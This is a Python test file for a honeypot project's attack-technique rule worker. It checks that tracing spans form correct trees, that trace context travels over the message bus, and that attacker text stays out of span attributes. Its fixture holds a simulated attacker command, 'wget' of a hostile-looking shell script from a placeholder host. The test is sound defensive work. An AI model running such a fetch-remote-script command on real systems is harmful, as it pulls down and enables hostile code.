"""Spans of the ttp plane with a real SDK and an exporter in memory; context over the bus; no attacker text."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from opentelemetry import trace
from opentelemetry.sdk.trace import ReadableSpan, TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from decnet import telemetry
from decnet.bus.base import Event
from decnet.bus.factory import get_bus
from decnet.bus.null import NullBus
from decnet.config import TelemetrySettings, load_settings
from decnet.runtime.worker import Transaction, TxBus
from decnet.ttp.rules import RuleState
from decnet.ttp.store.factory import get_rule_store
from decnet.ttp.worker import TtpWorker
from tests.dbkit import open_repo
from tests.wirekit import taken

SECRET = "http://203.0.113.66/zzhostile.sh"
PAYLOAD = {
    "session_id": "s1",
    "attacker_ip": "203.0.113.1",
    "ended_at": 2.0,
    "commands": [{"id": "c1", "command_text": f"wget {SECRET}", "ts": 1.0}],
    "downloads": [{"url": SECRET, "sha256": None}],
}


@pytest.fixture
def spans(monkeypatch: pytest.MonkeyPatch) -> Iterator[InMemorySpanExporter]:
    """Tracing turned on for one test: the tracer is looked up at call time."""
    exporter = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    monkeypatch.setattr(trace, "get_tracer", provider.get_tracer)
    yield exporter
    provider.shutdown()


def by_name(exporter: InMemorySpanExporter) -> dict[str, ReadableSpan]:
    return {span.name: span for span in exporter.get_finished_spans()}


def parent_of(span: ReadableSpan) -> int:
    assert span.parent is not None
    return span.parent.span_id


def id_of(span: ReadableSpan) -> int:
    context = span.get_span_context()
    assert context is not None
    return context.span_id


async def test_a_batch_is_one_tree_and_its_news_carry_it_on(
    spans: InMemorySpanExporter, tmp_path: Path
) -> None:
    with telemetry.span("sensor"):
        headers = telemetry.inject()
    async with open_repo("sqlite", tmp_path) as repo:
        settings = load_settings(data_dir=tmp_path)
        worker = TtpWorker(get_rule_store(settings, repo=repo), settings)
        await worker.start(repo, NullBus())
        spans.clear()
        with telemetry.span("other"):
            second = Event("attacker.observed", {"attacker_ip": "203.0.113.2"}, headers=telemetry.inject())
        async with repo.transaction() as bound:
            tx = Transaction(bound)
            await worker.handle(
                taken([Event("attacker.session.ended", PAYLOAD, headers=headers), second]), tx
            )
    found = by_name(spans)
    batch, lifter, evaluated, fired = (
        found[name] for name in ("ttp.worker.batch", "ttp.lifter.rule_engine", "ttp.eval", "ttp.rule.fire")
    )
    assert f"{parent_of(batch):016x}" in headers["traceparent"]
    assert [link.context.span_id for link in batch.links] == [id_of(found["other"])]
    assert parent_of(lifter) == id_of(batch)
    evals = {id_of(span) for span in spans.get_finished_spans() if span.name == "ttp.eval"}
    assert parent_of(evaluated) in {
        id_of(s) for s in spans.get_finished_spans() if s.name.startswith("ttp.lifter.")
    }
    assert parent_of(fired) in evals
    assert set(fired.attributes or {}) == {"rule_id", "rule_version", "technique_id"}
    assert tx.bus.events
    trace_id = headers["traceparent"].split("-")[1]
    assert all(trace_id in event.headers["traceparent"] for event in tx.bus.events)
    said = " ".join(str(dict(span.attributes or {})) for span in spans.get_finished_spans())
    assert "zzhostile" not in said
    assert "203.0.113" not in said


@pytest.mark.parametrize("kind", ["database", "filesystem"])
async def test_a_change_of_state_is_one_tree(spans: InMemorySpanExporter, tmp_path: Path, kind: str) -> None:
    bus = get_bus("trace", load_settings(bus={"type": "memory"}))
    await bus.connect()
    async with open_repo("sqlite", tmp_path) as repo, bus.subscribe("ttp.rule.state.>") as news:
        settings = load_settings(data_dir=tmp_path, ttp={"rule_store_type": kind})
        store = get_rule_store(settings, repo=repo, bus=bus)
        await store.load_compiled()
        spans.clear()
        await store.set_state("R0002", RuleState("disabled", reason="zzhostile"))
        event = await anext(aiter(news))
    await bus.close()
    found = by_name(spans)
    change = found["ttp.rule.state.change"]
    assert parent_of(found["ttp.store.write_state"]) == id_of(change)
    assert parent_of(found["ttp.rule.publish"]) == id_of(change)
    assert f"{change.get_span_context().trace_id:032x}" in event.headers["traceparent"]  # type: ignore[union-attr]
    assert not any("zzhostile" in str(span.attributes) for span in spans.get_finished_spans())


async def test_without_a_provider_nothing_is_carried() -> None:
    bus = TxBus()
    with telemetry.span("x"), telemetry.child("y"):
        await bus.publish("ttp.tagged", {})
    assert bus.events[0].headers == {}
    assert telemetry.context_of({}) is None
    assert isinstance(telemetry.get_tracer(), trace.Tracer)


def test_tracing_stays_off_unless_asked_for() -> None:
    telemetry.configure_tracing(TelemetrySettings())()
    assert not telemetry.recording()
